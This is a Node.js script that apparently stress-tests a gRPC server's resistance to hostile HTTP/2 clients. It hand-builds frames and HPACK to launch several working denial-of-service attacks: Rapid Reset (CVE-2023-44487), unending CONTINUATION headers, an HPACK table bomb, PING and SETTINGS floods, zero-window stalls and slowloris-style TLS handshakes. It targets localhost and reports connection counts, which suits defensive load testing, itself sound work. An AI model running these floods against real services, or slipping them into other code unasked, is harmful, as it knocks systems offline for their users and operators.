// Hostile HTTP/2 peers with a valid certificate: raw frames over TLS. Node's own modules only.
//
//   node flood.mjs ATTACK --port P --certificate C --key K --ca CA [--seconds 10] [--connections 8] [--from 127.0.0.2]
//
// It comes from an address of its own, as attackers do: its victims share neither its certificate nor its address.
// Tells at the end how much was sent, and how many connections the server ended. Every attack reads what it gets unless it
// is about not reading.
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { parseArgs } from 'node:util';
import tls from 'node:tls';

const { values: options, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    port: { type: 'string' }, certificate: { type: 'string' }, key: { type: 'string' }, ca: { type: 'string' },
    seconds: { type: 'string', default: '10' }, connections: { type: 'string', default: '8' },
    from: { type: 'string', default: '127.0.0.2' },
  },
});
// Counted from the moment that all connections have been tried.
let until = Infinity;
const many = Number(options.connections);
const told = { attack: positionals[0], connected: 0, refused: 0, ended: 0, frames: 0, megabytes: 0 };

// HTTP/2: type, flags, stream and payload of a frame (RFC 9113, section 4.1).
const DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, WINDOW_UPDATE = 8, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4;
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  told.frames += 1;
  return Buffer.concat([head, payload]);
}

// HPACK (RFC 7541): a literal field, with or without an entry in the dynamic table. No Huffman coding.
function number(value, bits, first) {
  const limit = 2 ** bits - 1;
  if (value < limit) return Buffer.from([first | value]);
  const bytes = [first | limit];
  for (value -= limit; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) + 128);
  return Buffer.from([...bytes, value]);
}
const text = (value) => Buffer.concat([number(value.length, 7, 0), Buffer.from(value)]);
const field = (name, value, indexed = false) =>
  Buffer.concat([Buffer.from([indexed ? 0x40 : 0]), text(name), text(value)]);
const request = (path) => Buffer.concat([
  field(':method', 'POST'), field(':scheme', 'https'), field(':path', path), field(':authority', 'localhost'),
  field('te', 'trailers'), field('content-type', 'application/grpc'), field('vsv-purpose', 'registry')]);
const LIST = '/vsv.partners.v1.PartnersService/ListOrganisations';
const emptyMessage = (stream) => frame(DATA, END_STREAM, stream, Buffer.alloc(5));

const setting = (id, value) => {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return payload;
};
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

const credentials = options.certificate && {
  cert: readFileSync(options.certificate), key: readFileSync(options.key), ca: readFileSync(options.ca),
};
function connect(settings = [], reads = true) {
  return new Promise((resolve) => {
    const socket = tls.connect({ port: Number(options.port), host: '127.0.0.1', localAddress: options.from, servername: 'localhost',
      ALPNProtocols: ['h2'], ...credentials });
    socket.once('secureConnect', () => {
      told.connected += 1;
      socket.established = true;
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.concat(settings)), frame(SETTINGS, 1, 0)]));
      if (reads) socket.resume();
      else socket.pause();
      resolve(socket);
    });
    socket.on('error', () => {});
    socket.once('close', () => {
      if (socket.established && Date.now() < until) told.ended += 1;
      if (!socket.established) told.refused += 1;
      resolve(null);
    });
  });
}

const moment = () => new Promise((resolve) => setImmediate(resolve));
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

// Sends what `next` gives on a connection, and on a new one when the server has ended it.
async function keepSending(next, settings) {
  let socket = null;
  let state = {};
  while (Date.now() < until) {
    if (socket === null || socket.destroyed) {
      socket = await connect(settings);
      state = { stream: 1 };
      if (socket === null) await pause(20);
      continue;
    }
    const bytes = next(state);
    told.megabytes += bytes.length / 1e6;
    if (!socket.write(bytes)) {
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), pause(200)]);
    } else await moment();
  }
  socket?.destroy();
}

const attacks = {
  // Streams are opened and reset at once (CVE-2023-44487).
  rapidreset: () => keepSending((state) => {
    const out = [];
    for (let i = 0; i < 100; i += 1, state.stream += 2) {
      out.push(frame(HEADERS, END_HEADERS, state.stream, request(LIST)), emptyMessage(state.stream),
        frame(RST_STREAM, 0, state.stream, Buffer.from([0, 0, 0, 8])));
    }
    return Buffer.concat(out);
  }),
  // A header block that never ends.
  continuation: () => keepSending((state) => {
    const out = [];
    if (!state.begun) out.push(frame(HEADERS, 0, state.stream, request(LIST)));
    state.begun = true;
    const junk = Buffer.concat(Array.from({ length: 16 }, (_, i) => field(`x-${i}`, 'a'.repeat(900))));
    out.push(frame(CONTINUATION, 0, state.stream, junk));
    return Buffer.concat(out);
  }),
  // A long field in the dynamic table, told again and again by one byte each.
  hpack: () => keepSending((state) => {
    const first = state.bombed ? Buffer.alloc(0) : field('x-bomb', 'b'.repeat(3900), true);
    state.bombed = true;
    const block = Buffer.concat([request(LIST), first, Buffer.alloc(8000, 0x80 | 62)]);
    const out = Buffer.concat([frame(HEADERS, END_HEADERS | END_STREAM, state.stream, block)]);
    state.stream += 2;
    return out;
  }),
  ping: () => keepSending(() => Buffer.concat(Array.from({ length: 200 }, () => frame(PING, 0, 0, Buffer.alloc(8))))),
  settings: () => keepSending(() =>
    Buffer.concat(Array.from({ length: 100 }, (_, i) => frame(SETTINGS, 0, 0, setting(4, 65535 - (i % 2)))))),
  // Answers that nobody takes: windows of nothing, requests as many as may be.
  zerowindow: () => keepSending((state) => {
    if (state.stream > 2 * 256) return frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1]));
    const out = Buffer.concat([frame(HEADERS, END_HEADERS, state.stream, request(LIST)), emptyMessage(state.stream)]);
    state.stream += 2;
    return out;
  }, [setting(4, 0)]),
  // Handshakes that never go on: a byte a second.
  slowhandshake: async () => {
    while (Date.now() < until) {
      const socket = net.connect({ port: Number(options.port), host: '127.0.0.1', localAddress: options.from });
      let open = true;
      socket.on('error', () => {}).on('close', () => { open = false; told.ended += 1; }).on('connect', () => { told.connected += 1; });
      // The beginning of a ClientHello of 512 bytes.
      const hello = Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]), Buffer.alloc(500)]);
      for (let i = 0; open && i < hello.length && Date.now() < until; i += 1) {
        socket.write(hello.subarray(i, i + 1));
        await pause(1000);
      }
      socket.destroy();
    }
  },
  idle: async () => {
    const socket = await connect();
    while (socket && !socket.destroyed && Date.now() < until) await pause(200);
    socket?.destroy();
  },
};

const attack = attacks[told.attack];
if (!attack) {
  console.error(`flood: one of ${Object.keys(attacks).join(' ')}`);
  process.exit(2);
}
// Handshakes are made some at a time, or the attacker would only be busy with its own.
const atATime = 64;
const running = [];
while (running.length < many) {
  for (let i = 0; i < atATime && running.length < many; i += 1) running.push(attack());
  const tried = running.length - atATime / 2;
  while (told.connected + told.refused < tried && told.attack === 'idle') await pause(2);
}
console.log('ready');
until = Date.now() + Number(options.seconds) * 1000;
await Promise.all(running);
told.megabytes = Math.round(told.megabytes);
console.log(JSON.stringify(told));
process.exit(0);
